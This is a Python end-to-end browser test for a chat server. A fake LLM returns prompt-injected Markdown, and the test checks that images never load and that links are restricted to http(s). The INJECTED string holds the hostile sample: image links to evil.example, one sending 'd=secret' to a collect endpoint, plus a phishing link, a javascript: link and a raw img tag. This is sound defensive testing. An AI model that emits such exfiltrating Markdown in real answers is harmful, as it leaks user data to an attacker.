"""Model output in Chromium: a prompt-injected LLM's Markdown images never load and its links are only http(s).

The server runs with an LLM configured: a fake OpenAI endpoint that answers with injected Markdown, as a
model obeying a poisoned entry or question would (security probe 2026-11, finding 6). Every request that
leaves 127.0.0.1 is recorded and aborted.
"""
from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from urllib.parse import urlsplit

import httpx
import pytest

from fake_openai_server import FakeOpenAI, text
from helpers import copy_entries, free_port, needs_chromium

pytestmark = [pytest.mark.e2e, pytest.mark.slow, needs_chromium]

ANSWER_TIMEOUT_MS = 60_000
INJECTED = ("A backbone extracts features [1]. ![t](http://evil.example/track.png) "
            "![leak](http://evil.example/collect?d=secret) See [more](http://evil.example/phish), "
            "[run](javascript:alert(1)) and [mail](mailto:x@evil.example). <img src=http://evil.example/raw.png>")


def expect():
    from playwright.sync_api import expect as _expect

    return _expect


@pytest.fixture(scope="module")
def llm_app(tmp_path_factory):
    """The real server (`glossarian serve`) with the fake LLM; yields (url, fake)."""
    work = tmp_path_factory.mktemp("llm-e2e")
    fake = FakeOpenAI().start()
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GLOSSARIAN_")}
    env.update(GLOSSARIAN_HOME=os.environ["GLOSSARIAN_HOME"], GLOSSARIAN_CORPUS=str(copy_entries(work / "corpus")),
               GLOSSARIAN_INDEX=str(work / "index"), GLOSSARIAN_LLM_BASE_URL=fake.url,
               GLOSSARIAN_LLM_MODEL="fake-model", GLOSSARIAN_RATE_LIMIT="1000")
    log = open(work / "server.log", "w")
    proc = subprocess.Popen([sys.executable, "-m", "glossarian", "serve", "--port", str(port)], env=env,
                            stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 1200
        while True:
            assert proc.poll() is None, (work / "server.log").read_text()
            try:
                if httpx.get(url + "/healthz").json().get("loaded"):
                    break
            except (httpx.HTTPError, ValueError):
                pass
            assert time.monotonic() < deadline, "server did not warm up:\n" + (work / "server.log").read_text()
            time.sleep(0.5)
        yield url, fake
    finally:
        proc.terminate()
        proc.wait(20)
        log.close()
        fake.stop()


@pytest.mark.parametrize("path", ["/", "/widget/"])
def test_llm_markdown_images_do_not_load_and_links_are_safe(page, llm_app, path, artifacts):
    url, fake = llm_app
    outside: list[str] = []

    def only_loopback(route):
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.route("**/*", only_loopback)
    fake.script(text(INJECTED), text(INJECTED))
    page.goto(url + path)
    box = page.get_by_role("textbox")
    box.fill("What is a backbone?")
    box.press("Enter")
    log = page.locator('[role="log"]')
    expect()(log).to_contain_text("A backbone extracts features", timeout=ANSWER_TIMEOUT_MS)
    expect()(box).to_be_editable(timeout=ANSWER_TIMEOUT_MS)
    page.wait_for_timeout(1000)  # anything the answer would load has been asked for by now
    page.screenshot(path=str(artifacts / f"llm-markdown{path.strip('/').replace('/', '-') or '-chat'}.png"))

    assert fake.requests, "the LLM was never asked"
    assert log.locator("img").count() == log.locator('img[src*="/gradio_api/file="]').count() == 0
    assert [u for u in outside if "evil.example" in u] == []
    expect()(log).to_contain_text("<img src=http://evil.example/raw.png>")  # shown as text
    expect()(log.locator('a[href="http://evil.example/raw.png"]')).to_have_count(1)  # a bare URL, without the ">"
    phish = log.locator('a[href="http://evil.example/phish"]')
    expect()(phish).to_have_count(1)
    assert {"noopener", "noreferrer"} <= set((phish.get_attribute("rel") or "").split())
    hrefs = log.locator("a[href]").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    # Every link is plain http(s), or the chat's own in-page anchor of a citation ("[1]" opens source card 1).
    assert all(h.startswith(("http://", "https://")) or re.fullmatch(r"#source-\d+", h) for h in hrefs), hrefs
    assert "#source-1" in hrefs
    # The image became a link the reader may choose to follow, not a request the browser makes.
    expect()(log.locator('a[href="http://evil.example/track.png"]')).to_have_count(1)
